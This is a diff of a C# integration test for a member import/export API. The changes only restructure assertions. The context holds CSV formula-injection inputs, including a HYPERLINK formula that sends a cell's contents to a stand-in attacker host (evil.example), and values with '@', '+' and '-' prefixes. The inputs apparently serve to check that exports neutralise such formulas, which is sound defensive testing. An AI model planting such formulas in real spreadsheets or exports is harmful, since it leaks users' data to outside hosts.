@@ -48,7 +48,8 @@ public sealed class ImportingMembersTests(DatabaseServers cluster)
         var profile = member.GetProperty("profile");
         (member.GetProperty("nickname").GetString(), member.GetProperty("phone").GetString(), member.GetProperty("email").GetString())
             .ShouldBe(("小明", "139****0001", "m***@example.org"));
-        (profile.GetProperty("realName").GetString(), profile.GetProperty("birthday").GetString(), profile.GetProperty("version").GetInt64()).ShouldBe(("王**", "****-05-12", 1));
+        (profile.GetProperty("realName").GetString(), profile.GetProperty("birthday").GetString()).ShouldBe(("王**", "****-05-12"));
+        profile.GetProperty("version").GetInt64().ShouldBe(1);
         (profile.GetProperty("attributes").GetProperty("shoe").GetInt64(), profile.GetProperty("attributes").GetProperty("vegan").GetBoolean()).ShouldBe((42, true));
         member.GetProperty("registeredAt").GetDateTimeOffset().ShouldBe(new DateTimeOffset(2024, 3, 1, 0, 0, 0, TimeSpan.FromHours(8)));
 
@@ -137,7 +138,8 @@ public sealed class ImportingMembersTests(DatabaseServers cluster)
         const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"a, b\")";
         var member = (await server.PostAsync("/api/members", new { externalId = "x-1", nickname = Formula, phone = "13900010009" })).TextOf("id")!;
         Figures(await ImportAsync(server, "externalId,nickname\n" + string.Concat(Enumerable.Range(0, 450).Select(i => $"m-{i},@{i}\n")))).ShouldBe((450, 450, 0, 0));
-        (await server.PostAsync("/api/points/adjust", new { memberId = member, points = -30, reason = "-1+1 \"x\"", referenceType = "test", referenceId = "+49" })).Status.ShouldBe(200);
+        var taken = new { memberId = member, points = -30, reason = "-1+1 \"x\"", referenceType = "test", referenceId = "+49" };
+        (await server.PostAsync("/api/points/adjust", taken)).Status.ShouldBe(200);
 
         var members = Rows(await server.GetAsync("/api/members/export"));
         members.Count.ShouldBe(452);
